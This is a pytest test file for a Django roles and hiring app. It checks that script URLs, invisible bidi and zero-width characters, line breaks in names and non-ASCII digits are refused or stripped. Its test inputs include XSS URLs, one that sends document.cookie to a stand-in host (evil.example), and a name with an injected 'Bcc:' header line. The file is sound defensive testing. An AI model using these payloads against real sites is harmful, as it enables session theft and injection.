"""Text and numbers that look like one thing and are another: a source URL that runs script, titles and
names with right-to-left overrides or zero-width characters, names with line breaks, digits that are
not 0–9. One rule for each (common.text, common.numbers), checked here through every way in."""
import json

import pytest
from django.core.exceptions import ValidationError
from django.core.paginator import Paginator
from django.utils import timezone
from rest_framework.test import APIClient

from common.text import ascii_page_number, single_line
from hiring.services.openings import add_candidate, open_opening
from kpis.models import Measurement, Person, Team
from kpis.services.people import add_person, ensure_team
from roles.blueprint_format import FormatError, validate_document
from roles.blueprint_format.synthetic import make_document
from roles.models import Role
from roles.services.importing import ImportFailure, import_document, import_file
from tests.kpis.test_kpi_permissions import make_world
from tests.personas import sign_in

pytestmark = pytest.mark.django_db
RLO, ZWSP, ZWJ, LRI, PDI, BOM = "\u202e", "\u200b", "\u200d", "\u2066", "\u2069", "\ufeff"


def _doc(**role) -> dict:
    doc = make_document("Hostile Text Engineer")
    doc["role"].update(role)
    return doc


# ---------- source.url: http(s) only, wherever a document comes from ----------

@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", " JavaScript:alert(1)",
                                 "data:text/html,<script>alert(1)</script>", "vbscript:msgbox", "//evil.example/x",
                                 "/relative/path", "https://"])
def test_a_source_url_that_is_no_web_address_is_refused(url):
    doc = _doc()
    doc["source"] = {"url": url, "title": "Source"}
    with pytest.raises(FormatError) as error:
        validate_document(doc)
    assert error.value.where == "source.url" and "http" in str(error.value)


def test_http_and_https_source_urls_are_kept():
    for url in ("https://example.com/roles/x?a=1", "http://intranet.example:8080/x"):
        doc = _doc()
        doc["source"] = {"url": url, "title": "Source"}
        assert validate_document(doc)["source"]["url"] == url


def test_a_wordpress_post_whose_link_runs_script_is_refused(seed_post):
    post = {**seed_post, "link": "javascript:fetch('//evil.example/'+document.cookie)"}
    with pytest.raises(ImportFailure) as error:
        import_file("post.json", json.dumps(post).encode())
    assert "source.url" in str(error.value)
    assert not Role.objects.exists()


def test_the_api_refuses_a_javascript_source_url(personas):
    imported = import_document(_doc(), publish=False, by=personas.admin)
    version = Role.objects.get(slug=imported.slug).versions.get()
    doc = _doc()
    doc["source"] = {"url": "javascript:alert(1)"}
    client = APIClient()
    client.force_authenticate(personas.admin)
    response = client.put(f"/api/v1/versions/{version.pk}/", {"document": doc}, format="json",
                          HTTP_IF_MATCH=f'"{version.pk}-r{version.revision}"')
    assert response.status_code == 400 and response.json()["where"] == "source.url"


# ---------- invisible formatting characters: stripped from every text of a blueprint ----------

def test_bidi_overrides_and_zero_width_characters_are_stripped_from_titles_and_text():
    doc = _doc(title=f"{RLO}Hostile{ZWSP} Text{ZWJ} Engineer{BOM}", family=f"{LRI}Engineering{PDI}")
    doc["kpis"][0]["name"] = f"Cycle{ZWSP} time{RLO}"
    canonical = validate_document(doc)
    assert canonical["role"]["title"] == "Hostile Text Engineer"
    assert canonical["role"]["slug"] == "hostile-text-engineer"
    assert canonical["role"]["family"] == "Engineering"
    assert canonical["kpis"][0]["name"] == "Cycle time"


def test_a_title_of_invisible_characters_only_is_empty():
    with pytest.raises(FormatError) as error:
        validate_document(_doc(title=f"{ZWSP}{RLO}{BOM}"))
    assert error.value.where == "role.title" and "empty" in str(error.value)


def test_the_new_role_page_strips_them_from_the_title(client, personas):
    sign_in(client, personas.admin)
    response = client.post("/roles/new/", {"title": f"Quiet{ZWSP} {RLO}Engineer", "family": "Engineering",
                                           "level": "mid"})
    assert response.status_code == 302
    assert Role.objects.get(slug="quiet-engineer").title == "Quiet Engineer"


# ---------- names: one line, nothing invisible ----------

@pytest.mark.parametrize("name", ["Casey\nBcc: victim@example.com", "Casey\rQuill", "Casey\x00", "Casey\u2028Q"])
def test_a_name_with_a_line_break_or_control_character_is_refused(name):
    with pytest.raises(ValidationError) as error:
        single_line(name, field="name")
    assert "name" in error.value.message_dict


def test_people_and_teams_lose_invisible_characters_and_refuse_line_breaks(personas):
    assert add_person(name=f"Ana{ZWSP} {RLO}Lima", email=f"ana@example.com{ZWSP}").name == "Ana Lima"
    assert Person.objects.get().email == "ana@example.com"
    assert ensure_team(name=f"{LRI}Platform{PDI}").name == "Platform"
    with pytest.raises(ValidationError):
        add_person(name="Ana\nLima", email="ana2@example.com")
    with pytest.raises(ValidationError):
        ensure_team(name="Plat\nform")
    assert Team.objects.count() == 1


def test_the_admin_refuses_a_team_name_with_a_line_break(client, personas):
    client.force_login(personas.admin)
    response = client.post("/admin/kpis/team/add/", {"name": "Plat\nform", "slug": "platform"})
    assert response.status_code == 200 and "must be one line" in response.content.decode()
    assert not Team.objects.exists()


def test_candidates_openings_and_stages_are_one_line(personas):
    import_document(make_document("Hiring Text Engineer"), publish=True)
    role = Role.objects.get(slug="hiring-text-engineer")
    opening = open_opening(role=role, by=personas.hiring, title=f"Platform{ZWSP} team")
    assert opening.title == "Platform team"
    with pytest.raises(ValidationError) as error:
        open_opening(role=role, by=personas.hiring, title="Platform\nteam")
    assert "title" in error.value.message_dict
    with pytest.raises(ValidationError) as error:
        add_candidate(opening=opening, by=personas.hiring, name="Casey\nQuill", email="casey@example.com")
    assert "name" in error.value.message_dict
    assert add_candidate(opening=opening, by=personas.hiring, name=f"{RLO}Casey Quill",
                         email="casey@example.com").name == "Casey Quill"


def test_the_candidate_form_shows_the_line_break_next_to_the_name(client, personas):
    import_document(make_document("Form Text Engineer"), publish=True)
    opening = open_opening(role=Role.objects.get(slug="form-text-engineer"), by=personas.hiring)
    sign_in(client, personas.hiring)
    response = client.post(f"/hiring/openings/{opening.pk}/", {"name": "Casey\nQuill", "email": "c@example.com"})
    assert response.status_code in (200, 400) and "must be one line" in response.content.decode()
    assert not opening.candidates.exists()


# ---------- numbers: the digits 0–9 only ----------

def test_an_export_version_in_other_digits_is_not_found(client, personas):
    imported = import_document(make_document("Digit Engineer"), publish=True)
    sign_in(client, personas.hr)
    assert client.get(f"/roles/{imported.slug}/export.json?version=1").status_code == 200
    for raw in ("\u0661", "\uff11", "\u0967"):  # Arabic-Indic, full-width and Devanagari one
        assert client.get(f"/roles/{imported.slug}/export.json?version={raw}").status_code == 404, raw


def test_api_ids_and_pages_in_other_digits_are_refused(personas):
    make_world(personas.manager, kpis=2, people=1)
    client = APIClient()
    client.force_authenticate(personas.hr)
    assert client.get("/api/v1/rollups/?metric=1").status_code == 200
    response = client.get("/api/v1/rollups/?metric=\uff11")
    assert response.status_code == 400 and "metric" in json.dumps(response.json())
    assert client.get("/api/v1/rollups/?from=2026-01-05").status_code == 200
    response = client.get("/api/v1/rollups/?from=\u0662\u0660\u0662\u0666-\u0660\u0661-\u0660\u0665")
    assert response.status_code == 400 and "from" in json.dumps(response.json())
    assert client.get("/api/v1/roles/?page=\u0661").status_code == 404
    assert client.get("/api/v1/roles/?page=1").status_code == 200
    assert client.get("/api/v1/candidates/?opening=\u0663").status_code == 400


def test_a_measurement_value_in_full_width_digits_is_refused(personas):
    world = make_world(personas.manager, kpis=1, people=1)
    client = APIClient()
    client.force_authenticate(personas.manager)
    row = {"metric": world.metrics[0].pk, "person": world.people[0].email,
           "period": timezone.localdate().isoformat(), "value": "\uff11\uff12"}
    response = client.post("/api/v1/measurements/", [row], format="json")
    assert response.status_code == 400 and response.json()["errors"][0]["field"] == "value"
    assert client.post("/api/v1/measurements/", [{**row, "value": "12"}], format="json").status_code == 201
    assert client.post("/api/v1/measurements/", [{**row, "metric": "\u0661"}],
                       format="json").status_code == 400
    assert Measurement.objects.get().value == 12


def test_the_record_form_refuses_other_digits(client, personas):
    world = make_world(personas.manager, kpis=1, people=1)
    sign_in(client, personas.manager)
    response = client.post("/kpis/record/", {"metric": world.metrics[0].pk, "person": world.people[0].pk,
                                             "date": timezone.localdate().isoformat(), "value": "\uff11\uff12"})
    assert "digits 0–9" in response.content.decode()
    response = client.post("/kpis/record/", {"metric": world.metrics[0].pk, "person": world.people[0].pk,
                                             "date": "\u0662\u0660\u0662\u0666-\u0660\u0661-\u0660\u0665",
                                             "value": "12"})
    assert "digits 0–9" in response.content.decode()
    assert not Measurement.objects.exists()


def test_a_page_number_in_other_digits_is_the_first_page():
    """The catalog, the history and the openings pages read ?page= through ascii_page_number."""
    pages = Paginator(list(range(100)), 10)
    assert pages.get_page("\u0663").number == 3  # what Django does on its own
    assert pages.get_page(ascii_page_number("\u0663")).number == 1
    assert pages.get_page(ascii_page_number("3")).number == 3
